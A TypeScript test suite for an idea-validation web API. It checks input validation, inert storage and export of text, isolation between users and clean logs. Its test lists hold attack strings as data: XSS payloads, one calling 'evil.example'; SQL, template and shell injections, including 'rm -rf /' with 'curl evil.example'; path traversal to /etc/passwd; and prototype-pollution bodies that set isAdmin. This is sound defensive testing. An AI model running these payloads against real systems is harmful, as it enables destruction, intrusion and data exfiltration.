import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { listDocuments } from '#contract/documents/documents.ts';
import { apiPrefix } from '#contract/endpoint.ts';
import { addObservation, createIdea, readIdea, saveIntake } from '#contract/validation/validation.ts';
import { exportJson, exportText, publishVersion, readLiveReport } from '#contract/validation/versions.ts';
import { BOOKKEEPING } from '#domain/validation/fixtures/bookkeeping.ts';
import { UNTESTABLE_INTAKES } from '#domain/validation/fixtures/untestable-intakes.ts';
import { completeIntake } from '#domain/validation/intake.ts';
import { fieldsToFix } from '#domain/validation/lint.ts';
import { createTestApp, type TestApp } from '#tests/app.ts';
import { createCall } from '#tests/call-endpoint.ts';
import { oneLine } from '#tests/observation.ts';
import { createTokenIdentity } from '#tests/token-identity.ts';

const token = 'founder';
let test: TestApp;
let call: ReturnType<typeof createCall>;
let ideaId: string;
let othersId: string;
beforeAll(async () => {
  test = await createTestApp({
    overrides: { identity: createTokenIdentity() },
    env: { RATE_LIMIT_PER_MINUTE: '100000' },
  });
  call = createCall(test.app);
  ideaId = (await call(createIdea, { token, body: { intake: BOOKKEEPING } })).data.id;
  othersId = (await call(createIdea, { token: 'neighbour', body: { intake: { title: 'A private matter' } } })).data.id;
});
afterAll(() => test.close());

const read = async (id = ideaId) => (await call(readIdea, { token, params: { ideaId: id } })).data;
const save = async (changes: object, id = ideaId) =>
  call(saveIntake, {
    token,
    params: { ideaId: id },
    body: { revision: (await read(id)).revision, editor: 'tab', changes },
  });
const live = async (id: string) => (await call(readLiveReport, { token, params: { ideaId: id } })).data.report;

describe('an intake that cannot be tested', () => {
  it.each(UNTESTABLE_INTAKES.map(({ name, ...rest }) => [name, rest] as const))(
    'gets no score, and its fields are named: %s',
    async (_name, { intake, fields }) => {
      const created = await call(createIdea, { token, body: { intake } });
      if (created.status === 400) {
        const named = Object.keys(created.fields).map((path) => path.split('.')[1]);
        expect(named.length).toBeGreaterThan(0);
        for (const field of named) expect(fields).toContain(field);
        return;
      }
      const report = await live(created.data.id);
      expect(report.score).toBeNull();
      expect(report.verdict.id).toBe('not_testable');
      expect(fieldsToFix(report.findings)).toEqual(fields);
    },
  );
});

/** Text that does no harm: it is kept to the letter. */
const safeTexts: [what: string, text: string][] = [
  ['a script tag', '<script>alert("xss")</script>'],
  ['an image that runs code', '<img src=x onerror=alert(1)>'],
  ['an end of a JSON script', '</script><script>fetch("//evil.example")</script>'],
  ['an SQL injection', "Robert'); DROP TABLE ideas; --"],
  ['a template injection', '{{constructor.constructor("return process")()}} <%= 7*7 %>'],
  ['a shell injection', '`rm -rf /` && $(curl evil.example)'],
  ['a format string', '%s%s%n %00 \\u0000 \\x00'],
  ['a spreadsheet formula', '=HYPERLINK("http://evil.example","x")'],
  ['right-to-left text', 'متجر صغير في سوق كانو لبيع الأقمشة'],
  ['a right-to-left override', 'invoice\u202efdp.exe'],
  ['an emoji of many parts', 'Traders 👩🏾‍🌾👨‍👩‍👧‍👦 🇳🇬 in Lagos'],
  ['Yoruba with marks', 'Ọjà Ìbàdàn: ẹ̀wà, ọ̀nà, ṣé'],
  ['letters piled with marks', `Z${'\u0300'.repeat(60)}algo`],
  ['zero-width characters', 'a\u200bb\u200cc\u200dd\ufeffe'],
  ['path traversal', '../../../../etc/passwd'],
  ['a prototype key as text', '__proto__ constructor prototype'],
  ['characters beyond the first plane', '𝕳𝖊𝖑𝖑𝖔 𠜎 🧺'],
];

describe('text that only looks dangerous', () => {
  it.each(safeTexts)('is kept to the letter and shown as text: %s', async (what, text) => {
    expect(await save({ title: text.slice(0, 80), problem: text })).toMatchObject({ status: 200 });
    const idea = await read();
    expect(idea.intake.problem).toBe(text);
    // The name goes into mails and lists: it neither leads anywhere nor turns what stands around it.
    const name = {
      'a spreadsheet formula': '=HYPERLINK("http evil. example","x")',
      'a right-to-left override': 'invoicefdp.exe',
    };
    expect(idea.name).toBe(name[what as keyof typeof name] ?? text.slice(0, 80));
    const { items } = (await call(listDocuments, { token, query: { search: idea.name.slice(0, 20) } })).data;
    expect(items.map(({ id }) => id)).toContain(ideaId);
    const { version } = (await call(publishVersion, { token, params: { ideaId } })).data;
    const params = { ideaId, number: version.number };
    const json = await call(exportJson, { token, params });
    expect(JSON.parse(json.bytes.toString()).snapshot.intake.problem).toBe(text);
    expect(json.headers).toMatchObject({ 'x-content-type-options': 'nosniff' });
    expect(json.headers['content-disposition']).toMatch(/^attachment; filename\*=UTF-8''[\w%.'()!~*-]+$/);
    const message = await call(exportText, { token, params });
    expect(message.bytes.length).toBeLessThan(1024);
    expect(message.bytes.toString()).not.toMatch(/[\u202a-\u202e]/);
  });
});

/** What cannot be kept: one answer is refused with a sentence, and what was there before stays. */
const refused: [what: string, changes: object, field: string][] = [
  ['a null byte', { title: 'a\u0000b' }, 'changes.title'],
  ['an escape sequence', { problem: 'a\u001b[31mred' }, 'changes.problem'],
  ['half a character', { problem: 'a\ud83d' }, 'changes.problem'],
  ['two lines where there is one', { title: 'a\nb' }, 'changes.title'],
  ['a megabyte in one field', { problem: 'x'.repeat(900_000) }, 'changes.problem'],
  ['a thousand items', { killCriteria: Array(1000).fill('Fewer than 5') }, 'changes.killCriteria'],
  ['a negative amount', { price: { amountMinor: -1, currency: 'NGN' } }, 'changes.price.amountMinor'],
  ['an amount beyond all numbers', { price: { amountMinor: 1e308, currency: 'NGN' } }, 'changes.price.amountMinor'],
  ['part of a kobo', { price: { amountMinor: 0.5, currency: 'NGN' } }, 'changes.price.amountMinor'],
  ['an amount as text', { price: { amountMinor: '100', currency: 'NGN' } }, 'changes.price.amountMinor'],
  ['a currency of its own', { price: { amountMinor: 1, currency: '<b>' } }, 'changes.price.currency'],
  ['a huge number', { segmentSize: 1e300 }, 'changes.segmentSize'],
  ['a negative number', { weeksAvailable: -8 }, 'changes.weeksAvailable'],
  ['a percentage in disguise', { churnPercent: '1e9' }, 'changes.churnPercent'],
  ['a script as a link', { alternatives: [{ name: 'x', link: 'javascript:alert(1)' }] }, 'changes.alternatives.0.link'],
  ['data as a link', { alternatives: [{ name: 'x', link: 'data:text/html,x' }] }, 'changes.alternatives.0.link'],
  ['an object for text', { title: { $gt: '' } }, 'changes.title'],
  ['a list for text', { title: ['a'] }, 'changes.title'],
  ['a list in a list', { killCriteria: [['a']] }, 'changes.killCriteria.0'],
  ['an unknown field', { isAdmin: true }, 'changes'],
  ['a prototype key', JSON.parse('{"toString": "x"}'), 'changes'],
];

describe('what cannot be kept', () => {
  it.each(refused)(
    'is refused with a sentence at its field, and nothing is lost: %s',
    async (_what, changes, field) => {
      const before = await read();
      const answer = await save(changes);
      expect(answer).toMatchObject({ status: 400, code: 'REQUEST_INVALID' });
      expect(Object.keys(answer.fields)).toEqual([field]);
      expect(answer.fields[field]).toMatch(/^[A-Z].*[.]$/);
      expect(await read()).toEqual(before);
    },
  );

  it('is refused whole when it is too large, too deep or no JSON', async () => {
    const before = await read();
    const url = `${apiPrefix}/validation/ideas/${ideaId}/intake`;
    const headers = { authorization: `Bearer ${token}`, 'content-type': 'application/json' };
    const send = async (payload: string) => (await test.app.inject({ method: 'PATCH', url, headers, payload })).json();
    const deep = `{"revision":0,"editor":"tab","changes":${'{"title":'.repeat(5000)}1${'}'.repeat(5000)}}`;
    const body = (changes: string) => `{"revision":0,"editor":"tab","changes":${changes}}`;
    expect(await send(body(`{"problem":"${'x'.repeat(2_000_000)}"}`))).toMatchObject({ code: 'REQUEST_TOO_LARGE' });
    expect(await send(deep)).toMatchObject({ code: 'REQUEST_INVALID' });
    expect(await send(body('{"__proto__":{"isAdmin":true}}'))).toMatchObject({ code: 'REQUEST_INVALID' });
    expect(await send(body('{"constructor":{"prototype":{"isAdmin":true}}}'))).toMatchObject({
      code: 'REQUEST_INVALID',
    });
    expect(await send('{"revision":0,')).toMatchObject({ code: 'REQUEST_INVALID' });
    expect(await send('[]')).toMatchObject({ code: 'REQUEST_INVALID' });
    expect(await send('null')).toMatchObject({ code: 'REQUEST_INVALID' });
    expect(await read()).toEqual(before);
    expect({}).not.toHaveProperty('isAdmin');
  });
});

describe('other people’s ids, and ids that are none', () => {
  const heard = {
    assumptionId: 'D1',
    side: 'for',
    level: 'L3',
    independence: 'stranger',
    inSegment: true,
    count: 1,
    date: '2026-01-01',
    note: 'Seen at the stall',
  } as const;

  it('answer alike, whatever is asked of them', async () => {
    for (const id of [othersId, 'never-was-there']) {
      const answers = [
        await call(readIdea, { token, params: { ideaId: id } }),
        await call(addObservation, { token, params: { ideaId: id }, body: oneLine(heard) }),
        await call(publishVersion, { token, params: { ideaId: id } }),
        await call(saveIntake, { token, params: { ideaId: id }, body: { revision: 0, editor: 'x', changes: {} } }),
      ];
      for (const { status, code } of answers) expect([status, code]).toEqual([404, 'IDEA_UNKNOWN']);
    }
    const theirs = await call(readIdea, { token: 'neighbour', params: { ideaId: othersId } });
    expect(theirs.data).toMatchObject({ revision: 1, evidence: [], versions: { count: 0 } });
  });

  it.each(['../../admin', "' or 1=1", '%00', '%2e%2e%2f', 'a'.repeat(100), '😀', '__proto__'])(
    'reach nothing: %s',
    async (id) => {
      const answer = await call(readIdea, { token, params: { ideaId: id } });
      expect([400, 404]).toContain(answer.status);
      expect(answer.json).toMatchObject({ status: 'error', requestId: expect.any(String) });
    },
  );

  it('cannot be smuggled in as one’s own', async () => {
    const body = { ...oneLine(heard), id: othersId, ownerUid: 'neighbour', ideaId: othersId };
    expect(await call(addObservation, { token, params: { ideaId }, body })).toMatchObject({ status: 400 });
  });
});

it('none of all this is in the log, and nothing broke', async () => {
  const log = test.logLines.join('\n');
  for (const text of ['DROP TABLE', 'alert(', 'Ọjà Ìbàdàn', 'A private matter', BOOKKEEPING.title ?? ''])
    expect(log).not.toContain(text);
  expect(log).not.toContain('"level":50');
  const { rows } = await test.context.database.db.execute<{ count: number }>(
    sql`select count(*)::int as count from ideas`,
  );
  expect(rows[0]?.count).toBeGreaterThan(2);
  expect((await read()).intake.place).toBe(completeIntake(BOOKKEEPING).place);
});
